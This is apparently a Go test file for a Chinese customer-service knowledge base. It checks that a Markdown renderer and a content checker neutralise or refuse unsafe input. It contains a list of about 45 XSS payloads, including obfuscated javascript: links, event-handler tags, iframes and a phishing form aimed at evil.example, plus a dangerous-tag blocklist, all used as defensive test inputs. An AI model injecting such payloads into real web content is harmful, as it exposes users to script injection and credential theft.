package knowledge_test

import (
	"errors"
	"net/url"
	"strings"
	"testing"

	"github.com/kefu-im/kefu/kb"
	"github.com/kefu-im/kefu/knowledge"
	"golang.org/x/net/html"
)

func TestRenderMarkdown(t *testing.T) {
	tests := []struct {
		name   string
		src    string
		want   []string // substrings of the HTML
		absent []string
	}{
		{
			name: "bold and link",
			src:  "**亲**，请看 [说明](https://example.com/help)",
			want: []string{
				"<strong>亲</strong>",
				`<a href="https://example.com/help" rel="nofollow noopener" target="_blank">说明</a>`,
			},
		},
		{
			name: "hard line break",
			src:  "第一行\n第二行",
			want: []string{"第一行<br>\n第二行"},
		},
		{
			name: "lists",
			src:  "- 红色\n- 蓝色\n\n1. 申请退款\n2. 寄回商品",
			want: []string{"<ul>\n<li>红色</li>\n<li>蓝色</li>\n</ul>", "<ol>\n<li>申请退款</li>\n<li>寄回商品</li>\n</ol>"},
		},
		{
			name:   "table with alignment",
			src:    "| 尺码 | 胸围 |\n|:--|--:|\n| S | 88 |",
			want:   []string{"<table>", `<th align="left">尺码</th>`, `<td align="right">88</td>`},
			absent: []string{"style"},
		},
		{
			name: "strikethrough",
			src:  "~~原价 99~~ 现价 79",
			want: []string{"<del>原价 99</del>"},
		},
		{
			name: "bare URLs are linked",
			src:  "见 www.example.com 或 https://example.com/a",
			want: []string{
				`<a href="http://www.example.com" rel="nofollow noopener" target="_blank">www.example.com</a>`,
				`<a href="https://example.com/a" rel="nofollow noopener" target="_blank">`,
			},
		},
		{
			name: "mailto",
			src:  "[写信](mailto:service@example.com)",
			want: []string{`<a href="mailto:service@example.com" rel="nofollow">写信</a>`},
		},
		{
			name: "image over https",
			src:  "![尺码表](https://img.example.com/size.png)",
			want: []string{`<img src="https://img.example.com/size.png" alt="尺码表">`},
		},
		{
			name: "less-than in text",
			src:  "2<3，请拍 <数量> 件",
			want: []string{"2&lt;3，请拍 &lt;数量&gt; 件"},
		},
		{
			name:   "relative link loses its href",
			src:    "[订单](/orders)",
			want:   []string{"订单"},
			absent: []string{"href", "/orders"},
		},
		{
			name:   "ftp link loses its href",
			src:    "[文件](ftp://example.com/a)",
			absent: []string{"href", "ftp:"},
		},
		{
			name: "code is escaped",
			src:  "`<b>` 和\n\n```\n<script>alert(1)</script>\n```",
			want: []string{"<code>&lt;b&gt;</code>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
		},
		{
			name:   "harmless raw HTML is dropped too",
			src:    "<b>重要</b> 内容",
			want:   []string{"重要", "内容"},
			absent: []string{"<b>", "raw HTML"},
		},
		{
			name: "empty",
			src:  "",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := knowledge.RenderMarkdown(tt.src)
			for _, w := range tt.want {
				if !strings.Contains(got, w) {
					t.Errorf("RenderMarkdown(%q) = %q, want it to contain %q", tt.src, got, w)
				}
			}
			for _, a := range tt.absent {
				if strings.Contains(got, a) {
					t.Errorf("RenderMarkdown(%q) = %q, want no %q", tt.src, got, a)
				}
			}
			assertSafeHTML(t, got)
		})
	}
}

// xssVectors are answers that try to run script. RenderMarkdown must neutralize each
// and CheckContent must refuse each.
var xssVectors = []struct {
	name, src string
}{
	{"script block", "<script>alert(1)</script>"},
	{"script upper case with src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"},
	{"inline script", "亲 <script>alert(1)</script> 您好"},
	{"script closing tag only", "亲 </script> 您好"},
	{"img onerror", "<img src=x onerror=alert(1)>"},
	{"img onerror quoted inline", `看图 <img src="x" onerror="alert(1)"/>`},
	{"img onerror split over block quote lines", "> <img src=x\n> onerror=alert(1)>"},
	{"link javascript", "[a](javascript:alert(1))"},
	{"link JAVASCRIPT", "[a](JAVASCRIPT:alert(1))"},
	{"link mixed case", "[a](JaVaScRiPt:alert(1))"},
	{"link tab entity", "[a](jav&#x09;ascript:alert(1))"},
	{"link decimal entity", "[a](&#106;avascript:alert(1))"},
	{"link named colon entity", "[a](javascript&colon;alert(1))"},
	{"link backslash-escaped colon", `[a](javascript\:alert(1))`},
	{"link percent-escaped", "[a](%6Aavascript:alert(1))"},
	{"link in angle brackets", "[a](<javascript:alert(1)>)"},
	{"link with title", `[a](javascript:alert(1) "title")`},
	{"reference link", "[a][r]\n\n[r]: javascript:alert(1)"},
	{"autolink", "<javascript:alert(1)>"},
	{"link in table cell", "| a |\n|---|\n| [x](javascript:alert(1)) |"},
	{"link in list item", "- [点我](javascript:alert(1))"},
	{"vbscript link", "[a](vbscript:msgbox(1))"},
	{"data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"},
	{"image javascript", "![x](javascript:alert(1))"},
	{"image data", "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)"},
	{"html link javascript", `<a href="javascript:alert(1)">x</a>`},
	{"html link tab entity", `<a href="jav&#x09;ascript:alert(1)">x</a>`},
	{"html link hex entity", `<a href="&#x6A;avascript:alert(1)">x</a>`},
	{"html link newline", "<a href=\"java\nscript:alert(1)\">x</a>"},
	{"svg onload", "<svg onload=alert(1)>"},
	{"svg slash onload", "<svg/onload=alert(1)>"},
	{"math xlink", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`},
	{"details ontoggle", "<details open ontoggle=alert(1)>"},
	{"body onload", "<body onload=alert(1)>"},
	{"iframe", `<iframe src="https://evil.example"></iframe>`},
	{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
	{"style tag", "<style>body{display:none}</style>"},
	{"style attribute", `<div style="position:fixed;top:0">登录</div>`},
	{"object", `<object data="https://evil.example/x.swf"></object>`},
	{"embed", `<embed src="https://evil.example/x.swf">`},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">`},
	{"base", `<base href="https://evil.example/">`},
	{"form", `<form action="https://evil.example"><input name=pw></form>`},
	{"comment trick", "<!--><script>alert(1)</script>-->"},
	{"unclosed textarea hides nothing", "<textarea>\n<script>alert(1)</script>"},
}

func TestRenderMarkdownXSS(t *testing.T) {
	for _, tt := range xssVectors {
		t.Run(tt.name, func(t *testing.T) {
			got := knowledge.RenderMarkdown(tt.src)
			assertSafeHTML(t, got)
			// Text such as "&lt;svg onload=…&gt;" or "javascript:alert(1)" is harmless;
			// assertSafeHTML checks the tags and attributes.
			lower := strings.ToLower(got)
			for _, bad := range []string{"<script", "<iframe", "<style", "<svg", "<object", "<embed", "<meta", "<base", "<form"} {
				if strings.Contains(lower, bad) {
					t.Errorf("RenderMarkdown(%q) = %q, contains %q", tt.src, got, bad)
				}
			}
		})
	}
}

// assertSafeHTML parses s as a browser would and fails on any element, attribute or URL
// that could run script or restyle the page.
func assertSafeHTML(t *testing.T, s string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken && tt != html.EndTagToken {
			continue
		}
		tok := z.Token()
		switch tok.Data {
		case "script", "style", "iframe", "frame", "object", "embed", "svg", "math", "form",
			"input", "base", "meta", "link", "textarea":
			t.Errorf("HTML %q has a <%s> element", s, tok.Data)
		}
		for _, a := range tok.Attr {
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc":
				t.Errorf("HTML %q has a %s attribute", s, a.Key)
			case a.Key == "href" || a.Key == "src" || a.Key == "cite" || a.Key == "action":
				u, err := url.Parse(a.Val)
				if err != nil {
					t.Errorf("HTML %q has an unparsable %s %q", s, a.Key, a.Val)
					continue
				}
				switch u.Scheme {
				case "http", "https", "mailto":
				default:
					t.Errorf("HTML %q has %s=%q, want an http, https or mailto URL", s, a.Key, a.Val)
				}
			case a.Key == "rel" && tok.Data == "a" && !strings.Contains(a.Val, "nofollow"):
				t.Errorf("HTML %q has a link with rel=%q, want nofollow", s, a.Val)
			}
		}
	}
}

func TestCheckContentRefusesXSS(t *testing.T) {
	for _, tt := range xssVectors {
		t.Run(tt.name, func(t *testing.T) {
			err := knowledge.CheckContent(answerArticle(tt.src))
			if !errors.Is(err, knowledge.ErrUnsafeContent) {
				t.Fatalf("CheckContent(answer %q) = %v, want ErrUnsafeContent", tt.src, err)
			}
			if msg := err.Error(); !strings.Contains(msg, "answer contains") || !strings.Contains(msg, "回答中不允许") {
				t.Errorf("CheckContent(answer %q) = %q, want it to name the answer in English and Chinese", tt.src, msg)
			}
		})
	}
}

func TestCheckContentMessages(t *testing.T) {
	tests := []struct {
		name string
		a    kb.Article
		want string
	}{
		{
			name: "script in answer",
			a:    answerArticle("亲<script>alert(1)</script>"),
			want: "unsafe content: answer contains a <script> tag (回答中不允许 <script> 标签)",
		},
		{
			name: "event handler",
			a:    answerArticle(`<img src=x onError=alert(1)>`),
			want: "unsafe content: answer contains an event-handler attribute onerror= in <img> (回答中不允许 onerror 等事件属性)",
		},
		{
			name: "markdown link",
			a:    answerArticle("[点我](JavaScript:alert(1))"),
			want: "unsafe content: answer contains a link to a javascript: URL (回答中不允许 javascript: 链接)",
		},
		{
			name: "markdown image",
			a:    answerArticle("![图](data:image/png;base64,AAAA)"),
			want: "unsafe content: answer contains an image with a data: URL (回答中不允许 data: 图片地址)",
		},
		{
			name: "html attribute",
			a:    answerArticle(`<a href="vbscript:x">x</a>`),
			want: "unsafe content: answer contains an HTML attribute href= with a vbscript: URL (回答中不允许 vbscript: 链接)",
		},
		{
			name: "title",
			a:    answerWithTitle(answerArticle("ok"), "<iframe src=https://x.example>"),
			want: "unsafe content: title contains a <iframe> tag (标题中不允许 <iframe> 标签)",
		},
		{
			name: "second question",
			a:    answerWithQuestions(answerArticle("ok"), "怎么退货", "<svg onload=alert(1)>"),
			want: "unsafe content: question 2 contains an event-handler attribute onload= in <svg> (第 2 个问题中不允许 onload 等事件属性)",
		},
		{
			name: "tag",
			a:    answerWithTags(answerArticle("ok"), "退货", "<style>"),
			want: "unsafe content: tag 2 contains a <style> tag (第 2 个标签中不允许 <style> 标签)",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := knowledge.CheckContent(tt.a)
			if !errors.Is(err, knowledge.ErrUnsafeContent) {
				t.Fatalf("CheckContent = %v, want ErrUnsafeContent", err)
			}
			if err.Error() != tt.want {
				t.Errorf("CheckContent = %q, want %q", err, tt.want)
			}
		})
	}
}

func TestCheckContentAccepts(t *testing.T) {
	tests := []struct {
		name, answer string
	}{
		{"plain", "亲，您好！七天无理由退货。"},
		{"bold, https link and list", "**注意**：请看 [退货说明](https://example.com/returns?from=kefu&x=1)\n\n- 第一步\n- 第二步"},
		{"table", "| 尺码 | 胸围 |\n|---|---|\n| S | 88 |"},
		{"less-than", "2<3，a < b > c"},
		{"angle-bracket placeholder", "use <数量> pieces，请填写 <订单号>"},
		{"harmless HTML", "<b>重要</b><br>换行 <img src=\"https://img.example.com/a.png\" alt=\"图\">"},
		{"mailto autolink", "<mailto:service@example.com> 或 <https://example.com>"},
		{"word javascript as text", "学习 javascript: 入门，data: 数据，vbscript 已过时"},
		{"scheme later in URL", "[搜索](https://example.com/?q=javascript:alert)"},
		{"link text looks dangerous", "[javascript:alert(1)](https://example.com)"},
		{"code span", "输入 `<script>alert(1)</script>` 无效"},
		{"fenced code", "示例：\n\n```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"},
		{"indented code", "示例：\n\n    <iframe src=x></iframe>"},
		{"one, online", "one more <b>online</b> time"},
		{"empty", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if err := knowledge.CheckContent(answerArticle(tt.answer)); err != nil {
				t.Errorf("CheckContent(answer %q) = %v, want nil", tt.answer, err)
			}
		})
	}
}

func TestCheckContentBundled(t *testing.T) {
	for _, a := range bundled(t) {
		if err := knowledge.CheckContent(a); err != nil {
			t.Errorf("%s: %v", a.ID, err)
		}
	}
}

func answerArticle(answer string) kb.Article {
	return kb.Article{
		ID: "test", Title: "测试", Category: kb.CategoryPresale,
		Questions: []string{"问题"}, Answer: answer,
	}
}

func answerWithTitle(a kb.Article, title string) kb.Article { a.Title = title; return a }

func answerWithQuestions(a kb.Article, qs ...string) kb.Article { a.Questions = qs; return a }

func answerWithTags(a kb.Article, tags ...string) kb.Article { a.Tags = tags; return a }
